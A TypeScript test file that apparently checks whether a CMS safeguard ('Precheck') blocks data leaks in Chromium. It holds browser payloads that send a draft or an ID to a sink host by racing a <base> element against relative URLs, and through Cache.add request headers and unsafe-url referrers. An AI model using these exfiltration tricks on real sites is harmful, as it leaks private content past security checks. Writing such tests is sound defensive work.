/**
 * The twelfth probe (2026-12-06, a helper in real Chromium), its cases of two kinds, each delivered
 * with the build before its fix: a <base> added or changed right after a relative URL was judged
 * against the base as it then was (an img's src, an <input type=image>'s, an <object>'s data), which
 * Chromium loads against the new base with the ID in its path; and what a Request carries into
 * Cache.add/addAll besides its URL (a safelisted Content-Language header with the ID, a referrer naming
 * the draft under unsafe-url), in the page and in a worker. A clean <base> and a clean cached Request
 * with a header keep working. This file re-run against the build of c4bb3ec (before the fixes,
 * 2026-12-06): the eight leak cases failed, the two clean ones passed.
 */
import { describe, test } from 'vitest';
import { probePage } from './probe-page.ts';

const { expectCleanArrives, expectDeliveredOnlyWithout } = probePage();

/** Page helpers: the draft percent-encoded and a wait. */
const PRE = String.raw`
  const enc = encodeURIComponent(draft);
  const wait = (ms) => new Promise((r) => setTimeout(r, ms));
`;
const page = (code: string) => PRE + code;

/** A <base> whose href takes effect after a relative URL was judged. */
const BASE_CASES: [label: string, code: string][] = [
  [
    "img.src set relative (judged against the page's base), then at once a <base> with the ID in its path",
    String.raw`const i = new Image(); i.src = 'p12x.png'; const b = document.createElement('base'); b.href = sink('p12-base-race') + '/' + ID + '/'; document.head.prepend(b); document.body.append(i); await wait(1000);`,
  ],
  [
    '<object data> set relative, then at once a <base> with the ID in its path',
    String.raw`const o = document.createElement('object'); o.width = 30; o.height = 30; o.data = 'p12x.html'; document.body.append(o); const b = document.createElement('base'); b.href = sink('p12-base-race-object') + '/' + ID + '/'; document.head.prepend(b); await wait(1200);`,
  ],
  [
    '<input type=image> src set relative, then at once a <base> with the ID in its path',
    String.raw`const i = document.createElement('input'); i.type = 'image'; i.src = 'p12x.png'; document.body.append(i); const b = document.createElement('base'); b.href = sink('p12-base-race-input') + '/' + ID + '/'; document.head.prepend(b); await wait(1000);`,
  ],
  [
    'an existing <base> whose href is changed right after a relative img.src',
    String.raw`const b = document.createElement('base'); b.href = sink('p12-base-change') + '/'; document.head.prepend(b); const i = new Image(); i.src = 'p12y.png'; b.href = sink('p12-base-change') + '/' + ID + '/'; document.body.append(i); await wait(1000);`,
  ],
];

/** What a Request carries into Cache.add/addAll besides its URL (a header, its referrer), in the page and a worker. */
const REQUEST_CASES: [label: string, code: string][] = [
  [
    "the page's Cache.add(Request) with the ID in a safelisted header (Content-Language, no-cors)",
    String.raw`const c = await caches.open('p12a'); await c.add(new Request(RAW + '/p12-cache-header', { mode: 'no-cors', headers: { 'Content-Language': ID } })).catch(() => {});`,
  ],
  [
    "the page's Cache.add(Request) whose referrer names the draft (unsafe-url)",
    String.raw`const c = await caches.open('p12b'); await c.add(new Request(RAW + '/p12-cache-referrer', { mode: 'no-cors', referrer: '/routes/?content=' + enc, referrerPolicy: 'unsafe-url' })).catch(() => {});`,
  ],
  [
    "a worker's Cache.add(Request) with the ID in a safelisted header",
    String.raw`return await inWorker("const c = await caches.open('p12c'); await c.add(new Request(RAW + '/p12-worker-cache-header', { mode: 'no-cors', headers: { 'Content-Language': ID } })).catch(() => {});");`,
  ],
  [
    "a worker's Cache.addAll([Request]) whose referrer names the draft",
    String.raw`return await inWorker("const c = await caches.open('p12d'); await c.addAll([new Request(RAW + '/p12-worker-cacheall-referrer', { mode: 'no-cors', referrer: sink('p12-ref') + '?content=' + encodeURIComponent(draft), referrerPolicy: 'unsafe-url' })]).catch(() => {});");`,
  ],
];

describe('a <base> that takes effect after a relative URL was judged', () => {
  test.each(BASE_CASES)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(page(code), 87)));
});

describe('what a Request carries into Cache.add/addAll besides its URL', () => {
  test.each(REQUEST_CASES)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(page(code), 88)));
});

describe('the CMS keeps working', () => {
  test('a clean <base> with a relative picture still loads', async () => {
    await expectCleanArrives(page(String.raw`const b = document.createElement('base'); b.href = sink('p12-clean-base') + '/'; document.head.prepend(b); const i = new Image(); i.src = 'x.png?v=4'; document.body.append(i); await wait(900);`));
  });
  test("the page's clean Cache.add(Request) with a header still fetches", async () => {
    await expectCleanArrives(page(String.raw`const c = await caches.open('p12e'); await c.add(new Request(sink('p12-clean-cache-request') + '?v=6', { headers: { 'Content-Language': 'zh-CN' } })).catch(() => {});`));
  });
});
